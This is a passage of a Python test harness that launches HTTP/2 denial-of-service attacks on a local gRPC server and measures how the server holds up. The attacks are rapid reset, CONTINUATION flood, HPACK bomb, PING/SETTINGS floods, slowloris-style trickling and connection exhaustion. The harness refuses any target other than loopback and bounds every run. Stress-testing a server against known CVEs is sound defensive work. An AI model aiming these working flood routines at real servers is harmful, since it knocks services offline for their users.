#!/usr/bin/python3
"""HTTP/2 attacks on posenc, from raw frames (issue 21, item 3).

Each attack speaks plaintext HTTP/2 with prior knowledge (h2c) to a target on
127.0.0.1 or [::1] (any other target is refused), built with Debian's
python3-h2, python3-hyperframe and python3-hpack. Every attack stops by
itself: each loop is bounded by --seconds and by a count, and the attacker
runs in child processes that are killed if they overrun.

Attacks (--attack NAME, repeatable; default: all, in this order; the last,
invalid_headers_past_limit, is CVE-2023-1428: an invalid te, :scheme or
grpclb_client_stats header, then 12 KB more headers, on 2 connections):
  cpu_burn            the floor, not an attack: the attacker's process (one
                      per --procs) burns CPU and sends nothing. The victim's
                      ratio under it is the most any server can keep on a
                      machine whose cores the attacker shares; the table
                      gives every attack's ratio against it too ("of floor").
  rapid_reset_cold    HEADERS of a real posenc call, its request, then
                      RST_STREAM(CANCEL) at once, in batches, as fast as
                      possible on --conns connections (4); every stream a
                      different table (GetTable d=256 max_len=1024, base
                      10000 + k/8, so each is a cache miss).
                      --rr-cold-request picks gettable (default), getrows
                      (1 row of a different table) or none (HEADERS without a
                      body, then the reset). gettable costs the server the
                      most: against Debian 12's gRPC 1.51.1, 5 s, default
                      budgets, 850 MiB peak RSS and 6.0 CPU-seconds, against
                      500 MiB and 2.3-2.7 for getrows and none (those two left
                      it answering nothing for more than 10 s afterwards;
                      gettable did not); and with a gRPC that drops reset
                      streams it still tests that posenc does no work for a
                      request cancelled as it arrives.
  rapid_reset_hot     the same with one spec: GetRows of 1 row of d=128
                      max_len=4096.
  continuation_flood  HEADERS without END_HEADERS, then CONTINUATION frames
                      of about 16 KiB, each four literal header fields of
                      4 KiB junk, without end (2 connections; a connection
                      the server closes is opened again).
  hpack_bomb          one header of about the server's whole HPACK table
                      (4 KiB) inserted once per connection, then referenced
                      (one byte each) ~16,000 times in every header block:
                      ~64 MB of decoded headers per stream (2 connections,
                      at most 100 streams open on each).
  ping_settings_flood PING and SETTINGS frames as fast as the socket takes
                      them (4 PINGs to 1 SETTINGS), on 4 connections with a
                      4 KiB receive buffer, never reading; a connection the
                      server closes is opened again (what the server sent is
                      read after the attack, at most 4 MiB a connection).
  ping_settings_acked 22 SETTINGS to a PING on 4 connections that read and
                      answer everything (each frame parsed, applied and
                      acked); a connection closed or sent GOAWAY is replaced
                      at once (issue 36's independent run: 12-16 k
                      connections, 1.3 M SETTINGS acked in 10 s).
  zero_window_hold    8 connections x 100 streams, each asking for a 16 MiB
                      table (GetTable d=512 max_len=8192 float32, or, if the
                      target refuses a 16 MiB message, StreamBatches of the
                      same table), SETTINGS_INITIAL_WINDOW_SIZE 0, never
                      reading; held to the end.
  idle_connections    2,000 connections: preface and SETTINGS, then nothing.
  slow_headers        on 200 connections, a ~256-byte header block trickled
                      3 bytes per CONTINUATION frame, one frame per connection
                      every 50 ms; a finished block gets its request and the
                      next stream starts (slowloris).
  trickled_body       20 connections x 50 streams: HEADERS, then a 64 KiB
                      request body (GetRows, padded with an unknown field 15)
                      one byte per DATA frame, one frame per stream every
                      50 ms.
  connection_storm    TCP connections (each sends the preface) opened as fast
                      as possible for the first 60% of the time: given the
                      server's pid, until it holds every descriptor its
                      RLIMIT_NOFILE allows, then 64 more (accepting them fails
                      with EMFILE); without a pid, 4,096. Held to the end,
                      then all closed. With --server-binary the server runs
                      under RLIMIT_NOFILE 256 (--storm-server-nofile), so
                      this is quick. It must accept new connections
                      afterwards (CVE-2023-4785). The connections past its
                      limit wait in its accept queue: a server that accepts
                      again still goes through them, closed, before the
                      probe's (4,000 of them took a patched server 12 s on
                      a loaded machine, hence only 64).
--conns N overrides the connection count of every attack run.
--min-streams N (rapid reset) and --min-bytes B (CONTINUATION flood) keep
the attack going past --seconds, up to --max-seconds, until that much was
sent: the ctest uses them, so that a machine too busy to attack fast does
not let a vulnerable server pass.

For each attack it measures, in this order:
  1. the victim alone (unless --no-victim): bench/client_load (posenc's C++
     client) looping 1-row GetRows of d=512 max_len=2048, one call at a time
     on one channel, for --seconds; posenc's CPU seconds meanwhile. The C++
     client is the victim because its own cost per call is the smallest
     (~60 us of CPU against hundreds in Python's grpcio), so its rate moves
     with the server's, and it takes the least CPU from the attacker and
     the server on a shared machine.
  2. the attack, for --seconds, with a fresh victim running at the same time
     (connected and warm before the attack starts, as an existing client);
     posenc's VmRSS, VmHWM (reset first through /proc/PID/clear_refs when
     permitted), CPU seconds and open descriptors sampled every 50 ms from
     /proc (given --server-pid, or the server this tool started). An attack
     whose server passes --abort-rss-bytes is stopped early (the machine
     is shared); the report says so.
  3. whether the server is alive: the process exists and a fresh connection
     gets the exact GetRows answer (d=4 max_len=8, position 2, the README's
     example) within --recover-seconds (retried on new connections, 2 s
     each).
  4. what the server answered the attacker: GOAWAY (error code, debug
     data), RST_STREAM (error code), grpc-status of responses (decoded from
     the first 2,000 header blocks of each connection), connections closed
     by the server (eof/reset), connections refused or timed out, or
     nothing.
The victim's ratio is its calls/s during the attack over its calls/s alone.
Output: a table on stdout; --json FILE writes every figure (for
bench/report.sh).

Targets:
  --target 127.0.0.1:PORT [--server-pid PID]
      any target: posenc itself, or a front (HAProxy, nginx) with
      --server-pid naming the posenc process behind it. Without a pid, RSS,
      CPU and descriptors are not reported and "alive" is the answer alone.
  --server-binary PATH [--server-arg=--flag=value ...]
      starts a fresh posenc_server on 127.0.0.1:0 for each attack (with
      --lame_duck_seconds=0 --grace_seconds=1 and RLIMIT_NOFILE
      --server-nofile, 65536; --storm-server-nofile, 256, for
      connection_storm), reads its port from its log, stops it after
      (its log is removed unless --keep-logs; with --check, a failed
      attack prints its tail).

Checks (--check): exit 1 if after any attack the server is not alive, or its
peak RSS (the larger of the sampled VmRSS and VmHWM) exceeds --max-rss-bytes
(with --server-binary, by default --cache_bytes + --max_inflight_bytes +
64 MiB from the server arguments, or the server's defaults 512 MiB and
256 MiB), or, only with --min-victim-ratio R, the victim's ratio is below R
(ctest never checks the ratio: it depends on the machine's load). Exit 2:
bad arguments.

Request encoding without protoc (proto/posenc/v1/posenc.proto): TableSpec
d=1 (varint), base=2 (double), max_len=3 (varint), dtype=4 (varint);
GetTableRequest spec=1; GetRowsRequest spec=1, positions=2 (packed);
StreamBatchesRequest spec=1; GetRowsResponse rows=1; Tensor dtype=1,
shape=2 (packed), data=3. A gRPC message is a 0 byte (not compressed), the
4-byte big-endian length, then the message.

Examples (a Release build in build/):
  bench/attacks/h2_attacks.py --server-binary build/server/posenc_server \\
      --json /tmp/attacks.json
  bench/attacks/h2_attacks.py --target 127.0.0.1:50051 --server-pid PID \\
      --attack rapid_reset_hot --seconds 5
  bench/attacks/h2_attacks.py --server-binary build/server/posenc_server \\
      --attack connection_storm --seconds 3 --no-victim --check \\
      --server-arg=--cache_bytes=67108864 \\
      --server-arg=--max_inflight_bytes=67108864
"""

import argparse
import collections
import ctypes
import ipaddress
import json
import math
import multiprocessing
import os
import re
import resource
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
import hyperframe.frame as hf

# tests/common, beside bench/ in the repository.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "..", "tests", "common"))
from protobuf_wire import pb_bytes, read_varint, varint  # noqa: E402

SETTING = h2.settings.SettingCodes

MiB = 1 << 20
GiB = 1 << 30
SERVICE = "/posenc.v1.PositionalEncoding/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKS = ["cpu_burn", "rapid_reset_cold", "rapid_reset_hot", "continuation_flood",
           "hpack_bomb", "ping_settings_flood", "ping_settings_acked",
           "zero_window_hold",
           "idle_connections", "slow_headers", "trickled_body",
           "connection_storm", "invalid_headers_past_limit"]
DEFAULT_CONNS = {"cpu_burn": 1, "rapid_reset_cold": 4, "rapid_reset_hot": 4,
                 "continuation_flood": 2, "hpack_bomb": 2,
                 "ping_settings_flood": 4, "ping_settings_acked": 4,
                 "zero_window_hold": 8,
                 "idle_connections": 2000, "slow_headers": 200,
                 "trickled_body": 20, "connection_storm": 4096,
                 "invalid_headers_past_limit": 2}
# posenc_server's defaults (server/server_options.h), for the RSS bound.
SERVER_DEFAULT_CACHE_BYTES = 512 * MiB
SERVER_DEFAULT_INFLIGHT_BYTES = 256 * MiB
RSS_MARGIN = 64 * MiB

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION = 0x8, 0x9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL = 0x8
MAX_WINDOW = (1 << 31) - 1

# Bounds that hold whatever the flags say.
MAX_SECONDS = 600
MAX_CONNS = 16000
MAX_STREAMS_PER_ATTACK = 100_000_000
MAX_BYTES_PER_ATTACK = 1 << 40
MAX_RECONNECTS = 20000
# The PING + SETTINGS floods reconnect as fast as the server lets them go:
# against a server that refuses them at accept, 20,000 reconnects last ~2 s
# of a 10 s attack, so their budget is per second of the attack instead.
MAX_FLOOD_RECONNECTS_PER_S = 100_000
DECODE_BLOCKS_PER_CONN = 2000
# connection_storm: connections past the server's descriptor limit. They wait
# in its accept queue; a server that accepts again after EMFILE must still
# get through them (closed by then) before a new client's connection.
STORM_BEYOND = 64

# Victim: as bench/client_load's defaults, one call at a time.
VICTIM_D, VICTIM_MAX_LEN = 512, 2048
# The probe: the README's worked example, d=4, position 2 of max_len 8.
PROBE_D, PROBE_MAX_LEN, PROBE_POSITION = 4, 8, 2


# ----------------------------------------------------------------------------
# Protobuf by hand (field numbers from proto/posenc/v1/posenc.proto).

def pb_varint(field, value):
    return varint(field << 3) + varint(value) if value else b""


def pb_double(field, value):
    return varint(field << 3 | 1) + struct.pack("<d", value) if value else b""


def table_spec(d, max_len, base=0.0, dtype=0):
    return (pb_varint(1, d) + pb_double(2, base) + pb_varint(3, max_len)
            + pb_varint(4, dtype))


def get_rows_request(spec, positions, pad=0):
    packed = b"".join(varint(p) for p in positions)
    body = pb_bytes(1, spec) + pb_bytes(2, packed)
    if pad:
        # An unknown field (15): skipped by the parser, makes the body long.
        body += pb_bytes(15, b"p" * pad)
    return body


def get_table_request(spec):
    return pb_bytes(1, spec)


def stream_batches_request(spec):
    return pb_bytes(1, spec)


def grpc_message(body):
    return b"\0" + struct.pack(">I", len(body)) + body


def pb_fields(buf):
    """(field, wire type, value) of a serialized message."""
    out, pos = [], 0
    while pos < len(buf):
        key, pos = read_varint(buf, pos)
        field, wire = key >> 3, key & 7
        if wire == 0:
            value, pos = read_varint(buf, pos)
        elif wire == 1:
            value, pos = buf[pos:pos + 8], pos + 8
        elif wire == 2:
            n, pos = read_varint(buf, pos)
            value, pos = buf[pos:pos + n], pos + n
        elif wire == 5:
            value, pos = buf[pos:pos + 4], pos + 4
        else:
            raise ValueError(f"wire type {wire}")
        out.append((field, wire, value))
    return out


# ----------------------------------------------------------------------------
# HTTP/2 pieces.

def request_headers(method, authority):
    return [(":method", "POST"), (":scheme", "http"),
            (":path", SERVICE + method), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def stateless_block(headers):
    """A header block that touches no HPACK dynamic table (every field a
    never-indexed literal), so the same bytes serve every stream and every
    connection."""
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers])


def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_field(name, value, indexing=False):
    """A literal field with a new name: never indexed (0x10), or with
    incremental indexing (0x40); no Huffman coding."""
    flag, bits = (0x40, 6) if indexing else (0x10, 4)
    return (hpack_int(0, bits, flag) + hpack_int(len(name), 7) + name
            + hpack_int(len(value), 7) + value)


def frame(ftype, flags, sid, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes((ftype, flags))
            + sid.to_bytes(4, "big") + payload)


def retarget(frame_bytes, sid):
    """The same frame on stream `sid`."""
    return frame_bytes[:5] + sid.to_bytes(4, "big") + frame_bytes[9:]


def settings_frame(settings):
    return hf.SettingsFrame(0, settings=settings).serialize()


def window_update(sid, increment):
    return hf.WindowUpdateFrame(sid, window_increment=increment).serialize()


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def check_target(target):
    """(family, host, port, authority) for 127.0.0.1:PORT or [::1]:PORT;
    raises ValueError for anything else."""
    m = re.fullmatch(r"(127\.0\.0\.1|\[::1\]):(\d{1,5})", target or "")
    if not m or not 0 < int(m.group(2)) < 65536:
        raise ValueError(f"target {target!r}: only 127.0.0.1:PORT or "
                         "[::1]:PORT (loopback) are allowed")
    host = m.group(1).strip("[]")
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"target {target!r} is not loopback")
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    return family, host, int(m.group(2)), target


def raise_nofile(want=65536):
    """This process's descriptor limit, raised to `want` if permitted (root),
    else to the hard limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        if soft < want:
            resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(want, hard)))
    except (ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


# ----------------------------------------------------------------------------
# The attacker's view of one connection: raw frames out, a counting parser in.

def new_stats():
    return {"sent": collections.Counter(), "got": collections.Counter(),
            "goaway": collections.Counter(), "rst": collections.Counter(),
            "grpc_status": collections.Counter(),
            "closed": collections.Counter(),
            "connect_failed": collections.Counter(), "notes": []}


def note(st, text):
    if len(st["notes"]) < 20 and text not in st["notes"]:
        st["notes"].append(text)


class Conn:
    """A non-blocking HTTP/2 client connection that sends what it is given.

    ack: "auto" answers SETTINGS and PING at once; "held" keeps the answers
    until release_control() (for attacks in the middle of a header block,
    where no other frame may be sent); "never" does not answer."""

    def __init__(self, sock, st, ack="auto", replenish=True):
        self.sock = sock
        self.st = st
        self.ack = ack
        self.replenish = replenish
        self.out = bytearray()
        self.control = bytearray()
        self.inbuf = bytearray()
        self.closed = None
        self.peer_settings = {}
        self.send_window = 65535
        self.next_sid = 1
        self.ended = set()
        self.hblock = None
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.decoded = 0
        self.unacked = 0

    @classmethod
    def open(cls, ctx, st, ack="auto", replenish=True, rcvbuf=0,
             settings=None, timeout=1.0):
        sock = socket.socket(ctx.family, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(min(timeout, max(0.05, ctx.left())))
        try:
            sock.connect((ctx.host, ctx.port))
        except OSError as e:
            sock.close()
            st["connect_failed"][connect_error(e)] += 1
            time.sleep(0.01)
            return None
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        st["sent"]["connections"] += 1
        c = cls(sock, st, ack, replenish)
        if settings is None:
            settings = {SETTING.ENABLE_PUSH: 0,
                        SETTING.INITIAL_WINDOW_SIZE:
                            MAX_WINDOW if replenish else 65535}
        c.out += PREFACE + settings_frame(settings)
        if replenish:
            c.out += window_update(0, MAX_WINDOW - 65535)
        return c

    def queue(self, data):
        self.out += data

    def release_control(self):
        if self.control:
            self.out += self.control
            self.control.clear()

    def flush(self):
        """Sends what the socket takes now; False once closed."""
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, InterruptedError):
                return True
            except OSError as e:
                self.close(socket_error(e))
                return False
            self.st["sent"]["bytes"] += n
            del self.out[:n]
        return not self.closed

    def pump(self, limit=8 * MiB):
        """Reads what has arrived (at most `limit` bytes) and parses it."""
        got = 0
        while got < limit and not self.closed:
            try:
                data = self.sock.recv(256 * 1024)
            except (BlockingIOError, InterruptedError):
                break
            except OSError as e:
                self.close(socket_error(e))
                break
            if not data:
                self.close("eof")
                break
            got += len(data)
            self.inbuf += data
        if got:
            self.parse()
        if self.ack == "auto":
            self.release_control()
        return got

    def peek_closed(self):
        """Whether the server closed the connection, without reading."""
        if self.closed:
            return True
        try:
            data = self.sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        except (BlockingIOError, InterruptedError):
            return False
        except OSError as e:
            self.close(socket_error(e))
            return True
        if not data:
            self.close("eof")
            return True
        return False

    def drain(self, limit, seconds):
        """After the attack: reads at most `limit` bytes for at most
        `seconds`, to see what the server said."""
        end = time.monotonic() + seconds
        got = 0
        while not self.closed and got < limit:
            n = self.pump(limit - got)
            got += n
            left = end - time.monotonic()
            if left <= 0:
                break
            if not n:
                poller = select.poll()
                poller.register(self.sock.fileno(), select.POLLIN)
                if not poller.poll(int(min(0.05, left) * 1000)):
                    break

    def close(self, reason=None):
        if self.closed:
            return
        self.closed = reason or "by us"
        if reason:
            self.st["closed"][reason] += 1
        try:
            self.sock.close()
        except OSError:
            pass

    def parse(self):
        buf, pos, n = self.inbuf, 0, len(self.inbuf)
        while n - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if n - pos - 9 < length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            start = pos + 9
            pos = start + length
            self.on_frame(ftype, flags, sid, buf, start, length)
        del buf[:pos]

    def on_frame(self, ftype, flags, sid, buf, start, length):
        got = self.st["got"]
        if ftype == DATA:
            got["DATA bytes"] += length
            if flags & END_STREAM:
                self.ended.add(sid)
            self.unacked += length
            if self.replenish and self.unacked >= MiB:
                self.control += window_update(0, self.unacked)
                self.unacked = 0
        elif ftype in (HEADERS, CONTINUATION):
            got["HEADERS" if ftype == HEADERS else "CONTINUATION"] += 1
            payload = bytes(buf[start:start + length])
            if ftype == HEADERS:
                if flags & END_STREAM:
                    self.ended.add(sid)
                pad = 0
                if flags & PADDED:
                    pad, payload = payload[0], payload[1:]
                if flags & PRIORITY:
                    payload = payload[5:]
                if pad:
                    payload = payload[:-pad]
                self.hblock = bytearray(payload)
            elif self.hblock is not None:
                self.hblock += payload
            if flags & END_HEADERS and self.hblock is not None:
                self.on_header_block(bytes(self.hblock))
                self.hblock = None
        elif ftype == RST_STREAM:
            self.ended.add(sid)
            code = int.from_bytes(buf[start:start + 4], "big")
            self.st["rst"][error_name(code)] += 1
        elif ftype == SETTINGS:
            if flags & ACK:
                got["SETTINGS ACK"] += 1
            else:
                got["SETTINGS"] += 1
                for i in range(start, start + length - 5, 6):
                    ident = int.from_bytes(buf[i:i + 2], "big")
                    value = int.from_bytes(buf[i + 2:i + 6], "big")
                    self.peer_settings[ident] = value
                if self.ack != "never":
                    self.control += frame(SETTINGS, ACK, 0)
        elif ftype == PING:
            if flags & ACK:
                got["PING ACK"] += 1
            else:
                got["PING"] += 1
                if self.ack != "never":
                    self.control += frame(PING, ACK, 0,
                                          bytes(buf[start:start + 8]))
        elif ftype == GOAWAY:
            last = int.from_bytes(buf[start:start + 4], "big") & 0x7FFFFFFF
            code = int.from_bytes(buf[start + 4:start + 8], "big")
            debug = bytes(buf[start + 8:start + min(length, 88)])
            self.st["goaway"][error_name(code)] += 1
            note(self.st, f"GOAWAY {error_name(code)} last_stream={last}"
                          + (f" debug={debug.decode(errors='replace')!r}"
                             if debug else ""))
            self.goaway = True
        elif ftype == WINDOW_UPDATE:
            if sid == 0:
                self.send_window += int.from_bytes(
                    buf[start:start + 4], "big") & 0x7FFFFFFF
        else:
            got[f"type {ftype}"] += 1

    def on_header_block(self, block):
        if self.decoded < 0 or self.decoded >= DECODE_BLOCKS_PER_CONN:
            return
        self.decoded += 1
        try:
            fields = self.decoder.decode(block, raw=True)
        except Exception as e:  # noqa: BLE001 (any HPACK failure)
            note(self.st, f"could not decode a response header block: {e}")
            self.decoded = -1
            return
        for name, value in fields:
            if name == b"grpc-status":
                self.st["grpc_status"][value.decode(errors="replace")] += 1
            elif name == b"grpc-message" and value:
                note(self.st, "grpc-message: " + value.decode(
                    errors="replace")[:100])

    goaway = False

    @property
    def sending_blocked(self):
        return len(self.out) >= 256 * 1024


def connect_error(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    return {111: "refused", 104: "reset", 24: "EMFILE (attacker)",
            99: "EADDRNOTAVAIL"}.get(e.errno, f"errno {e.errno}")


def socket_error(e):
    return {104: "reset", 32: "reset (EPIPE)"}.get(
        getattr(e, "errno", None), f"error {e}")


def wait_io(conns, write, seconds):
    """Waits until one of `conns` is readable (or writable, if it has output
    and `write`), at most `seconds`."""
    poller = select.poll()
    for c in conns:
        if c is not None and not c.closed:
            mask = select.POLLIN
            if write and c.out:
                mask |= select.POLLOUT
            poller.register(c.sock.fileno(), mask)
    poller.poll(max(0, int(seconds * 1000)))


# ----------------------------------------------------------------------------
# The attacks. Each runs in a child process with `ctx` (target, deadline,
# counts) and fills the stats dict `st`.

class Ctx:
    """Target, deadline and counts of one attacker process. The attack runs
    for `seconds`, or longer, up to `max_seconds`, until its main count
    (streams for rapid reset, bytes for the CONTINUATION flood) reaches
    `min_count`."""

    def __init__(self, family, host, port, authority, seconds, conns, opts):
        self.family, self.host, self.port = family, host, port
        self.authority = authority
        now = time.monotonic()
        self.deadline = now + seconds
        self.hard_deadline = now + max(seconds, opts.get("max_seconds", 0))
        self.min_count = opts.get("min_count", 0)
        self.count = 0
        self.conns = conns
        self.opts = opts
        self.reconnects = 0
        self.max_reconnects = MAX_RECONNECTS

    def stop(self):
        self.deadline = self.hard_deadline = time.monotonic()

    def end(self):
        if self.count < self.min_count:
            return max(self.deadline, self.hard_deadline)
        return self.deadline

    def left(self):
        return self.end() - time.monotonic()

    def running(self):
        return time.monotonic() < self.end()

    def reopen(self, st, old, **kw):
        """A new connection in place of `old` (None when over the budget)."""
        if old is not None:
            st["sent"]["reconnects"] += 1
            self.reconnects += 1
            old.close()
        if self.reconnects > self.max_reconnects or not self.running():
            return None
        return Conn.open(self, st, **kw)


def live_conns(ctx, st, conns):
    """Each connection of `conns` in turn, pumped: one closed or sent
    GOAWAY is reopened first (ctx.reopen; conns updated), one still closed
    skipped."""
    for i, c in enumerate(conns):
        if c is None or c.closed or c.goaway:
            c = conns[i] = ctx.reopen(st, c)
            if c is None:
                continue
        c.pump()
        if c.closed:
            continue
        yield c


def idle_wait(conns, busy):
    """The end of a pass over `conns`: waits for I/O if none could send
    (busy), and sleeps a little while every connection is closed (None)."""
    if busy:
        wait_io(conns, True, 0.01)
    if all(c is None for c in conns):
        time.sleep(0.01)


def close_all(conns):
    """Sends what each open connection still has queued, then closes it."""
    for c in conns:
        if c is not None:
            c.pump()
            c.close()


def rapid_reset(ctx, st, cold):
    kind = ctx.opts["rr_cold_request"] if cold else "getrows"
    method = {"gettable": "GetTable", "getrows": "GetRows",
              "none": "GetRows"}[kind]
    block = stateless_block(request_headers(method, ctx.authority))
    with_body = kind != "none"
    headers = frame(HEADERS, END_HEADERS, 1, block)
    rst = frame(RST_STREAM, 0, 1, CANCEL.to_bytes(4, "big"))
    hot_body = frame(DATA, END_STREAM, 1, grpc_message(get_rows_request(
        table_spec(128, 4096), [7])))

    def body(k):
        if not cold:
            return hot_body
        spec = table_spec(256, 1024, base=10000.0 + k / 8)
        req = (get_table_request(spec) if kind == "gettable"
               else get_rows_request(spec, [k % 1024]))
        return frame(DATA, END_STREAM, 1, grpc_message(req))

    conns = [None] * ctx.conns
    k = streams = 0
    batch = 32
    while ctx.running() and streams < MAX_STREAMS_PER_ATTACK:
        busy = True
        for c in live_conns(ctx, st, conns):
            if not c.sending_blocked and c.next_sid < (1 << 31) - 2 * batch:
                parts = []
                for _ in range(batch):
                    sid = c.next_sid
                    c.next_sid += 2
                    parts.append(retarget(headers, sid))
                    if with_body:
                        data = body(k)
                        k += 1
                        if c.send_window >= len(data) - 9:
                            c.send_window -= len(data) - 9
                            parts.append(retarget(data, sid))
                        else:
                            st["sent"]["streams without body (no window)"] += 1
                    parts.append(retarget(rst, sid))
                c.queue(b"".join(parts))
                streams += batch
                ctx.count = streams
                busy = False
            c.flush()
        idle_wait(conns, busy)
    st["sent"]["streams (each reset)"] += streams
    close_all(conns)


def continuation_flood(ctx, st):
    block = stateless_block(request_headers("GetRows", ctx.authority))
    fields = b"".join(literal_field(b"x-junk-%02d" % i, b"j" * 4070)
                      for i in range(4))
    chunk = b"".join(frame(CONTINUATION, 0, 1, fields) for _ in range(64))
    conns = [None] * ctx.conns
    total = 0
    while ctx.running() and total < MAX_BYTES_PER_ATTACK:
        busy = True
        for i, c in enumerate(conns):
            if c is None or c.closed:
                # No answer to SETTINGS or PING: inside a header block no
                # other frame may be sent.
                c = conns[i] = ctx.reopen(st, c, ack="never")
                if c is None:
                    continue
                c.queue(frame(HEADERS, 0, 1, block))
            c.pump()
            if not c.closed and not c.sending_blocked:
                c.queue(chunk)
                total += len(chunk)
                ctx.count = total
                st["sent"]["CONTINUATION frames"] += 64
                busy = False
            c.flush()
        idle_wait(conns, busy)
    close_all(conns)


def wait_settings(ctx, c, seconds=2.0):
    end = min(ctx.end(), time.monotonic() + seconds)
    while not c.closed and not c.peer_settings and time.monotonic() < end:
        c.flush()
        c.pump()
        wait_io([c], True, 0.02)


def hpack_bomb(ctx, st):
    name = b"x-bomb"
    pseudo = stateless_block(request_headers("GetRows", ctx.authority))
    refs = b"\xbe" * (16000 - len(pseudo))  # index 62: the first dynamic entry
    conns = [None] * ctx.conns
    sent = 0
    while ctx.running() and sent < MAX_STREAMS_PER_ATTACK:
        busy = True
        for i, c in enumerate(conns):
            if c is None or c.closed or c.goaway:
                c = conns[i] = ctx.reopen(st, c)
                if c is None:
                    continue
                wait_settings(ctx, c)
            c.pump()
            if c.closed:
                continue
            table = c.peer_settings.get(SETTING.HEADER_TABLE_SIZE, 4096)
            max_frame = c.peer_settings.get(SETTING.MAX_FRAME_SIZE, 16384)
            limit = min(100, c.peer_settings.get(
                SETTING.MAX_CONCURRENT_STREAMS, 100))
            open_streams = (c.next_sid - 1) // 2 - len(c.ended)
            if c.sending_blocked or open_streams >= limit:
                c.flush()
                continue
            block = pseudo + refs
            if not getattr(c, "bomb_inserted", False):
                value = b"b" * max(1, table - 32 - len(name))
                block = (pseudo + literal_field(name, value, indexing=True)
                         + refs)
                c.bomb_inserted = True
                note(st, f"inserted a {len(value)}-byte value; "
                         f"{len(refs)} references per block")
            sid = c.next_sid
            c.next_sid += 2
            first, rest = block[:max_frame], block[max_frame:]
            c.queue(frame(HEADERS, END_STREAM | (0 if rest else END_HEADERS),
                          sid, first))
            while rest:
                part, rest = rest[:max_frame], rest[max_frame:]
                c.queue(frame(CONTINUATION, 0 if rest else END_HEADERS, sid,
                              part))
            sent += 1
            busy = False
            c.flush()
        idle_wait(conns, busy)
    st["sent"]["streams"] += sent
    close_all(conns)


def ping_settings_flood(ctx, st):
    ping = frame(PING, 0, 0, b"posenc!!")
    settings = settings_frame({SETTING.MAX_CONCURRENT_STREAMS: 100})
    chunk = (ping * 4 + settings) * 256
    conns, done = [None] * ctx.conns, []
    frames = 0
    while ctx.running() and frames < MAX_STREAMS_PER_ATTACK:
        busy = True
        for i, c in enumerate(conns):
            if c is None or c.closed:
                if c is not None:
                    done.append(c)
                # A connection the server closes is opened again.
                c = conns[i] = ctx.reopen(st, c, ack="never", replenish=False,
                                          rcvbuf=4096)
                if c is None:
                    continue
            if not c.sending_blocked:
                c.queue(chunk)
                frames += 5 * 256
                busy = False
            c.flush()
        if busy:
            # Never reading: wait for the socket to take more, or a close.
            poller = select.poll()
            for c in conns:
                if c is not None and not c.closed:
                    poller.register(c.sock.fileno(), select.POLLOUT)
            poller.poll(10)
        if all(c is None for c in conns):
            time.sleep(0.01)
    st["sent"]["PING and SETTINGS frames"] += frames
    end = time.monotonic() + 1.0
    for c in conns:
        if c is not None:
            c.peek_closed()
            c.drain(4 * MiB, max(0.0, end - time.monotonic()))
            c.close()


def ping_settings_acked(ctx, st):
    """The PING + SETTINGS flood of issue 36's independent run: unlike
    ping_settings_flood, it reads everything and answers the server's own
    SETTINGS and PING, so each of its frames is parsed, applied and acked;
    about 22 SETTINGS to a PING (the run got ~90 SETTINGS acked a
    connection); a connection that is closed or told to go away (the
    too_many_pings GOAWAY after the third PING) is replaced at once."""
    ping = frame(PING, 0, 0, b"posenc!!")
    settings = settings_frame({SETTING.MAX_CONCURRENT_STREAMS: 100})
    chunk = settings * 22 + ping
    ctx.max_reconnects = int(MAX_FLOOD_RECONNECTS_PER_S * max(ctx.left(), 1))
    conns = [None] * ctx.conns
    frames = 0
    while ctx.running() and frames < MAX_STREAMS_PER_ATTACK:
        idle = True
        for i, c in enumerate(conns):
            if c is None or c.closed or c.goaway:
                c = conns[i] = ctx.reopen(st, c, replenish=False)
                if c is None:
                    continue
            if len(c.out) < 64 * 1024:
                c.queue(chunk)
                frames += 23
                idle = False
            c.flush()
            if c.pump():
                idle = False
        if idle:
            poller = select.poll()
            for c in conns:
                if c is not None and not c.closed:
                    poller.register(c.sock.fileno(),
                                    select.POLLIN | select.POLLOUT)
            poller.poll(10)
        if all(c is None for c in conns):
            time.sleep(0.01)
    st["sent"]["PING and SETTINGS frames"] += frames
    for c in conns:
        if c is not None:
            c.close()


def cpu_burn(ctx, st):
    """The floor, not an attack: no traffic, the attacker's process only
    burns CPU, as much as one process takes. On a machine whose cores the
    attacker, the server and the victim share, no defence in the server can
    give the victim more than this."""
    spins = 0
